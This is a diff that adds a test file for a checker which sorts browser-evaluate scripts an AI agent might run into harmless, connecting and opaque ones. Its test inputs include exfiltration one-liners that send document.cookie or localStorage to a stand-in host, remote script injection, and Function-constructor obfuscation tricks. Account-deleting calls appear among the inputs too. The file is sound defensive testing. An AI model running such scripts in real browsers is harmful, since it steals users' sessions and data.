@@ -1,0 +1,114 @@
+import { describe, expect, test } from 'vitest';
+import { describeEffect } from '../../describe-effect.ts';
+import { understandCall } from '../../understand-call.ts';
+
+function effectsOf(script: string): readonly string[] {
+  const call = understandCall({
+    tool: 'mcp__playwright__browser_evaluate',
+    args: { function: script },
+    cwd: '/w',
+    workspace: '/w',
+  });
+  if ('invalid' in call) throw new Error(call.invalid);
+  return call.effects
+    .filter(({ kind }) => kind !== 'invoke')
+    .map(
+      (effect) =>
+        `${effect.kind === 'connect' && effect.sendsData === 'certain' ? 'send: ' : ''}${describeEffect(effect)}`,
+    );
+}
+
+describe('a script that looks at its page does nothing', () => {
+  test.each([
+    '() => document.title',
+    'document.title',
+    '() => { return document.querySelectorAll("a").length; }',
+    'async () => { await new Promise((done) => setTimeout(done, 500)); return document.body.innerText.slice(0, 2000) }',
+    '() => [...document.querySelectorAll("a")].map((a) => ({ text: a.textContent.trim(), href: a.href }))',
+    '() => Array.from(document.querySelectorAll("tr"), (row) => [...row.cells].map((cell) => cell.innerText))',
+    'function () { return JSON.stringify(window.__STATE__, null, 2) }',
+    '() => getComputedStyle(document.querySelector(".a")).display',
+    '() => window.getComputedStyle(document.body).color',
+    '() => document.querySelector("#save")?.click()',
+    '() => { window.scrollTo(0, document.body.scrollHeight); }',
+    '(element) => element.getBoundingClientRect().width',
+    '() => ({ url: location.href, path: window.location.pathname, agent: navigator.userAgent, w: window.innerWidth })',
+    '() => { const out = {}; for (const el of document.querySelectorAll("[id]")) out[el.id] = el.tagName; return out; }',
+    '() => { const list = []; document.querySelectorAll("img").forEach((i) => { if (!i.alt) list.push(i.src) }); return list }',
+    '() => { const el = document.querySelector("input"); el.value = "a"; el.dispatchEvent(new Event("input", { bubbles: true })) }',
+    '() => localStorage.getItem("theme")',
+    '() => { document.querySelector("p").textContent = "hello"; document.body.style.outline = "1px solid red" }',
+    '() => performance.getEntriesByType("resource").map((r) => r.name)',
+    '() => { const count = (s) => document.querySelectorAll(s).length; return { a: count("a"), b: count("b") } }',
+    'async () => { const response = await fetch("/api/users"); return { status: response.status, body: await response.json() } }',
+    '() => document.documentElement.classList.add("dark")',
+  ])('%s', (script) => {
+    expect(effectsOf(script)).toEqual([]);
+  });
+});
+
+test.each<[string, readonly string[]]>([
+  ['() => fetch("https://a.example/x").then((r) => r.json())', ['connect a.example']],
+  ['() => fetch("https://a.example/x", { method: "POST", body: "a" })', ['send: connect a.example']],
+  ['() => fetch("https://a.example/?" + document.title)', ['send: connect a.example']],
+])('a request is a connection: %s', (script, expected) => {
+  expect(effectsOf(script)).toEqual(expected);
+});
+
+describe('what else a page can do is unseen', () => {
+  test.each([
+    '() => fetch("https://a.example/?" + document.cookie)',
+    '() => fetch("https://a.example/", { method: "POST", body: JSON.stringify(localStorage) })',
+    '() => fetch("https://a.example/", { credentials: "include" })',
+    '() => fetch("https://a.example/", options)',
+    '() => fetch(url)',
+    '() => fetch(`https://${host}/x`)',
+    '() => fetch("/api/account", { method: "DELETE" })',
+    '() => fetch("//a.example/", { body: document.title, method: m })',
+    '() => fetch("\\\\a.example/?" + document.title)',
+    '() => { new Image().src = "https://a.example/?" + document.cookie }',
+    '() => { document.images[0].src = "https://a.example/?" + document.cookie }',
+    '() => { location.href = "https://a.example/?" + document.cookie }',
+    '() => { location = "https://a.example/" }',
+    '() => { window.location = "https://a.example/" }',
+    '() => location.assign("https://a.example/")',
+    '() => location.replace("https://a.example/", "")',
+    '() => { const l = location; l.replace(/a/, "https://a.example/") }',
+    '() => open("https://a.example/")',
+    '() => window["op" + "en"]("https://a.example/")',
+    '() => { const { open: o } = window; o("https://a.example/") }',
+    '() => { const w = window; return w[k]("x") }',
+    '() => [1].map(window.run)',
+    '() => urls.map(fetch)',
+    '() => setTimeout("evil()", 1)',
+    '() => setTimeout(window.run, 1)',
+    '() => eval("1")',
+    '() => [].map.constructor("return 1")()',
+    '() => []["constr" + "uctor"]["constr" + "uctor"]("return 1")()',
+    '() => ["return 1"].map([].at["constr" + "uctor"])',
+    '() => window.top.location',
+    '() => window.parent["x" + y]',
+    '() => new Function("return 1")()',
+    '() => new WebSocket("wss://a.example")',
+    '() => navigator.sendBeacon("https://a.example", "x")',
+    '() => import("https://a.example/x.js")',
+    '() => { document.body.innerHTML = "<img src=https://a.example/>" }',
+    '() => document.write("<script src=https://a.example/></script>")',
+    '() => { const s = document.createElement("script"); s.src = "https://a.example/"; document.body.append(s) }',
+    '() => { document.querySelector("style").textContent = "@import url(https://a.example/)" }',
+    '() => { document.body.style.background = "url(https://a.example/)" }',
+    '() => document.querySelector("img").setAttribute("src", "https://a.example/")',
+    '() => document.forms[0].submit()',
+    '() => window.app.deleteAccount()',
+    '() => $.text("https://a.example/", document.cookie)',
+    '() => dataLayer.push({ a: document.cookie })',
+    '() => `${{ toString: window.run }}`',
+    '() => { window.x = 1 }',
+    '() => run`x`',
+    '() => Object.keys(window).map((key) => window[key])',
+    'class A {}',
+    '() => {',
+  ])('%s', (script) => {
+    expect(effectsOf(script)).toEqual([expect.stringMatching(/^opaque/)]);
+  });
+});
